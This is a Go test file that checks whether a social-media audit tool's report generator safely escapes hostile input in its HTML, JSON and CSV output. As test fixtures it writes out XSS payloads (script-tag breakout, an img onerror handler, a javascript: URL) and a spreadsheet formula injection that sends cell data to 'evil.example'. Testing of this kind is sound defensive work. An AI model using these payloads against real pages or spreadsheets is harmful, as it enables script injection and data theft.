package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"html"
	"html/template"
	"regexp"
	"strings"
	"testing"

	"github.com/socialaudit/socialaudit/analyze"
	"github.com/socialaudit/socialaudit/report/internal/locale"
)

// The attacks a hostile export could carry in any text it controls.
const (
	scriptBreak = `</script><script>window.__pwned=1</script>`
	funcMarker  = `__f__(window.__pwned=2)__f__`
	quotes      = `"quotes' & <b>`
	imgOnerror  = `<img src=x onerror=alert(1)>`
	jsURL       = `javascript:alert(1)`
)

// hostile is every attack in one string.
const hostile = scriptBreak + " " + funcMarker + " " + quotes + " " + imgOnerror + " " + jsURL

// hostileFixture puts the attacks into every text field of the fixture
// that comes from the data or the command line. Codes that analyze itself
// sets (months, reasons, trend direction and basis) are left alone.
func hostileFixture() (*analyze.Results, Meta) {
	res := fixture()
	h := func(tag string) string { return tag + " " + hostile }
	for i := range res.Platforms {
		res.Platforms[i] = h("platform")
	}
	for i := range res.Responsiveness.ByPlatform {
		res.Responsiveness.ByPlatform[i].Platform = h("platform" + itoa(i))
	}
	for i := range res.Broadcast.ByPlatform {
		res.Broadcast.ByPlatform[i].Platform = h("platform" + itoa(i))
	}
	for i := range res.NegativeFeedback.ByPlatform {
		res.NegativeFeedback.ByPlatform[i].Platform = h("platform" + itoa(i))
	}
	for i := range res.NegativeFeedback.TopPosts {
		p := &res.NegativeFeedback.TopPosts[i].Post
		p.Platform, p.Account, p.ID, p.Type, p.Text = h("platform"), h("account"), h("id"), h("type"), h("text")
		p.Permalink = jsURL
	}
	for i := range res.Open {
		c := &res.Open[i].Comment
		c.Platform, c.Account, c.ID, c.PostID, c.ParentID = h("platform"), h("account"), h("id"), h("post"), h("parent")
		c.AuthorID, c.AuthorName = h("author"), "="+hostile
		c.Text = "=HYPERLINK(\"http://evil.example/?\"&A1) " + hostile
	}
	for i := range res.Inputs {
		in := &res.Inputs[i]
		in.File, in.Kind, in.Format = h("file"), h("kind"), h("format")
		in.IgnoredColumns = []string{h("column")}
		in.Notes = []string{h("note")}
		for j := range in.Rejections {
			r := &in.Rejections[j]
			r.File, r.Column, r.Reason = h("file"), h("column"), h("reason")
		}
	}
	meta := fixtureMeta()
	meta.Client = h("client")
	meta.Brand = []string{h("brand"), "@" + hostile}
	meta.Version = h("version")
	meta.AgencyName, meta.Contact = h("agency"), h("contact")
	return res, meta
}

// scriptTags is how many <script elements each page has on the fixture:
// report.js, and the ECharts library on pages that draw a chart. All load
// a file; none is inline.
var scriptTags = map[string]int{
	"index.html":          1,
	"responsiveness.html": 2,
	"conversation.html":   2,
	"feedback.html":       2,
	"methodology.html":    1,
	"data.html":           1,
}

// chartsDrawn is how many charts each page draws on the fixture.
var chartsDrawn = map[string]int{
	"responsiveness.html": 4,
	"conversation.html":   2,
	"feedback.html":       3,
}

func TestHostileText(t *testing.T) {
	for _, lang := range []string{"en", "fr"} {
		t.Run(lang, func(t *testing.T) { testHostileText(t, lang) })
	}
}

func testHostileText(t *testing.T, lang string) {
	if lang != "en" {
		// The recommendations' own texts are package recommend's to test; in
		// other languages they are left out here, so that this test does
		// not depend on recommend's languages.
		saveB, saveM := buildRecommendations, buildMethodology
		t.Cleanup(func() { buildRecommendations, buildMethodology = saveB, saveM })
		buildRecommendations = func(*analyze.Results, recommendOptions) ([]recommendation, error) { return nil, nil }
		buildMethodology = func(*analyze.Results, recommendOptions) (template.HTML, error) { return "<p>-</p>", nil }
	}
	res, meta := hostileFixture()
	meta.Lang = lang
	site, err := Build(res, meta)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	options := chartOptions(t, res, meta)
	plain := buildFixtureLang(t, lang)
	for _, f := range site.Files {
		if strings.HasPrefix(f.Path, "assets/") {
			continue
		}
		s := string(f.Data)
		ext := f.Path[strings.LastIndex(f.Path, "."):]
		// The hostile text must be there, escaped; else the test proves nothing.
		escaped := map[string]string{".html": "&#34;quotes&#39; &amp; &lt;b&gt;", ".json": `\"quotes' \u0026 \u003cb\u003e`, ".csv": quotes}
		if want := escaped[ext]; !strings.Contains(s, want) {
			t.Errorf("%s: the hostile text is not in the output as %q", f.Path, want)
		}
		if f.Path == "data/unanswered.csv" {
			continue // plain data, not markup: checked in TestHostileCSV
		}
		for _, raw := range []string{scriptBreak, quotes, imgOnerror, "<script>", "<img", "onerror=alert(1)>"} {
			if strings.Contains(s, raw) {
				t.Errorf("%s contains %q unescaped", f.Path, raw)
			}
		}
		if !strings.HasSuffix(f.Path, ".html") {
			continue
		}
		lower := strings.ToLower(s)
		if got, want := strings.Count(lower, "<script"), scriptTags[f.Path]; got != want {
			t.Errorf("%s: %d <script tags, want %d", f.Path, got, want)
		}
		if got, want := strings.Count(lower, "<script"), strings.Count(lower, `<script src="assets/echarts/echarts.min.js"></script>`)+strings.Count(lower, `<script src="assets/report.js"></script>`); got != want {
			t.Errorf("%s: %d <script tags, of which only %d load ECharts or report.js", f.Path, got, want)
		}
		if got, want := strings.Count(s, "<script"), strings.Count(string(plain.File(f.Path).Data), "<script"); got != want {
			t.Errorf("%s: %d <script tags with hostile text, %d without", f.Path, got, want)
		}
		if strings.Contains(lower, `href="javascript`) {
			t.Errorf("%s: a javascript: URL became a link", f.Path)
		}
		checkOptions(t, f.Path, s, options)
		checkScripts(t, f.Path, s)
	}
	if !strings.Contains(string(site.File("feedback.html").Data), `href="#ZgotmplZ"`) {
		t.Error("feedback.html: the javascript: permalink was not replaced by html/template's #ZgotmplZ")
	}

	// metrics.json keeps every string exactly, escaped only by JSON.
	var m MetricsJSON
	if err := json.Unmarshal(site.File("data/metrics.json").Data, &m); err != nil {
		t.Fatalf("metrics.json: %v", err)
	}
	if m.Client != meta.Client || m.NegativeFeedback.TopPosts[0].Text != res.NegativeFeedback.TopPosts[0].Post.Text ||
		m.Inputs[0].Rejections[0].Reason != res.Inputs[0].Rejections[0].Reason {
		t.Error("metrics.json does not round-trip the hostile strings")
	}
}

// chartOptions returns the option JSON of every chart of the view, by id.
func chartOptions(t *testing.T, res *analyze.Results, meta Meta) map[string]string {
	t.Helper()
	l, err := locale.For(meta.Lang)
	if err != nil {
		t.Fatal(err)
	}
	pages, err := newBuilder(res, meta, l).newPages(nil, "")
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, p := range pages {
		for _, s := range p.Sections {
			for _, c := range s.Charts {
				if c.Option != "" {
					out[c.ID] = c.Option
				}
			}
		}
	}
	return out
}

// dataOption matches a chart canvas and its option attribute; html/template
// escapes every quote inside an attribute value, so [^"]* is the whole value.
var dataOption = regexp.MustCompile(`<div id="([A-Za-z0-9_]+)" class="chart-canvas[^"]*" role="img" aria-label="[^"]*" data-option="([^"]*)"></div>`)

// checkOptions checks every chart of a page: its data-option attribute,
// once the browser decodes it, is exactly the JSON that json.Marshal made,
// valid, with every "__f__" inside a JSON string, where it is inert.
func checkOptions(t *testing.T, name, page string, options map[string]string) {
	t.Helper()
	matches := dataOption.FindAllStringSubmatch(page, -1)
	if got, want := len(matches), chartsDrawn[name]; got != want {
		t.Errorf("%s: %d chart canvases with an option, want %d", name, got, want)
	}
	if got := strings.Count(page, "data-option="); got != len(matches) {
		t.Errorf("%s: %d data-option attributes, %d on a chart canvas", name, got, len(matches))
	}
	for _, m := range matches {
		id, attr := m[1], m[2]
		if strings.ContainsAny(attr, "<>'") {
			t.Errorf("%s: %s: the attribute holds raw markup characters", name, id)
		}
		option := html.UnescapeString(attr)
		if want, ok := options[id]; !ok || option != want {
			t.Errorf("%s: %s: the decoded attribute is not the chart's JSON:\n got %.200s\nwant %.200s", name, id, option, want)
		}
		if !json.Valid([]byte(option)) {
			t.Errorf("%s: chart option is not valid JSON: %.200s", name, option)
		}
		if n := countOutsideStrings(option, "__f__"); n != 0 {
			t.Errorf("%s: %d __f__ markers outside JSON strings", name, n)
		}
	}
}

// attribute is one attribute of a start tag, its value decoded.
type attribute struct{ Name, Value string }

// attributes parses the attributes of a start tag as html/template writes
// them: name, or name="value" (values are always double-quoted).
func attributes(tag string) []attribute {
	var out []attribute
	rest := strings.TrimSuffix(tag[1:], ">")
	if i := strings.IndexAny(rest, " \n"); i >= 0 {
		rest = rest[i:]
	} else {
		return nil
	}
	for {
		rest = strings.TrimLeft(rest, " \n")
		if rest == "" {
			return out
		}
		end := strings.IndexAny(rest, "= \n")
		if end < 0 {
			return append(out, attribute{Name: rest})
		}
		a := attribute{Name: rest[:end]}
		rest = rest[end:]
		if strings.HasPrefix(rest, `="`) {
			rest = rest[2:]
			j := strings.IndexByte(rest, '"')
			if j < 0 {
				return append(out, attribute{Name: a.Name, Value: "UNTERMINATED " + rest})
			}
			a.Value = html.UnescapeString(rest[:j])
			rest = rest[j+1:]
		} else if rest != "" && rest[0] == '=' {
			// Not how html/template writes; keep it visible to the checks.
			a.Value = "UNQUOTED " + rest
			rest = ""
		}
		out = append(out, a)
	}
}

// attrValues returns the values of every attribute named attr of the
// start tags of page, decoded as a browser does.
func attrValues(page, attr string) []string {
	var out []string
	for _, tag := range startTags(page) {
		for _, a := range attributes(tag) {
			if a.Name == attr {
				out = append(out, a.Value)
			}
		}
	}
	return out
}

// countOutsideStrings counts occurrences of sub in js that are not inside a
// double-quoted string.
func countOutsideStrings(js, sub string) int {
	n, in := 0, false
	for i := 0; i < len(js); i++ {
		switch {
		case in && js[i] == '\\':
			i++
		case js[i] == '"':
			in = !in
		case !in && strings.HasPrefix(js[i:], sub):
			n++
		}
	}
	return n
}

func TestCountOutsideStrings(t *testing.T) {
	for _, tc := range []struct {
		js   string
		want int
	}{
		{`{"a":"__f__(x)__f__"}`, 0},
		{`{"a":(x)__f__}`, 1},
		{`{"a":"\"__f__"}`, 0},
		{`{"a":"x\\"__f__}`, 1},
	} {
		if got := countOutsideStrings(tc.js, "__f__"); got != tc.want {
			t.Errorf("countOutsideStrings(%s) = %d, want %d", tc.js, got, tc.want)
		}
	}
}

func TestHostileCSV(t *testing.T) {
	res, meta := hostileFixture()
	site, err := Build(res, meta)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(site.File("data/unanswered.csv").Data)).ReadAll()
	if err != nil {
		t.Fatalf("unanswered.csv does not parse: %v", err)
	}
	if len(rows) != 1+len(res.Open) {
		t.Fatalf("%d rows, want %d", len(rows), 1+len(res.Open))
	}
	for _, row := range rows[1:] {
		if got, want := row[8], "'="+hostile; got != want {
			t.Errorf("author_name = %q, want %q", got, want)
		}
		if !strings.HasPrefix(row[11], `'=HYPERLINK(`) {
			t.Errorf("text = %q, want a leading apostrophe", row[11])
		}
		if row[1] != "platform "+hostile {
			t.Errorf("platform = %q, changed although harmless in a spreadsheet", row[1])
		}
	}
}

func TestNeutraliseFormula(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"hello", "hello"},
		{"=1+1", "'=1+1"},
		{"+33 6", "'+33 6"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"a=b", "a=b"},
		{" =1", " =1"},
	} {
		if got := neutraliseFormula(tc.in); got != tc.want {
			t.Errorf("neutraliseFormula(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// checkScripts checks that a page runs no script of its own: every
// <script> loads a file, and no element has an on* handler attribute (the
// hostile text is escaped, so "onerror=" can only come from a template) or
// an inline style. checkOptions checks the chart options themselves.
func checkScripts(t *testing.T, name, page string) {
	t.Helper()
	for rest := page; ; {
		i := strings.Index(rest, "<script")
		if i < 0 {
			break
		}
		rest = rest[i:]
		tag := rest[:strings.IndexByte(rest, '>')+1]
		if !strings.HasPrefix(tag, `<script src="`) || !strings.HasPrefix(rest[len(tag):], "</script>") {
			t.Errorf("%s: an inline script: %.80s", name, rest)
		}
		rest = rest[len(tag):]
	}
	for _, tag := range startTags(page) {
		for _, a := range attributes(tag) {
			if strings.HasPrefix(a.Name, "on") {
				t.Errorf("%s: an event handler attribute in %.80s", name, tag)
			}
			if a.Name == "style" {
				t.Errorf("%s: an inline style in %.80s", name, tag)
			}
		}
	}
}

// startTags returns the start tags of page ("<div ...>"), outside <script>
// and <style> elements, whose bodies are not markup.
func startTags(page string) []string {
	var tags []string
	for rest := page; ; {
		i := strings.IndexByte(rest, '<')
		if i < 0 || i+1 >= len(rest) {
			return tags
		}
		rest = rest[i:]
		j := strings.IndexByte(rest, '>')
		if j < 0 {
			return tags
		}
		tag := rest[:j+1]
		rest = rest[j+1:]
		if tag[1] == '/' || tag[1] == '!' {
			continue
		}
		tags = append(tags, tag)
		for _, raw := range []string{"script", "style"} {
			if strings.HasPrefix(tag, "<"+raw) {
				if k := strings.Index(rest, "</"+raw+">"); k >= 0 {
					rest = rest[k:]
				}
			}
		}
	}
}
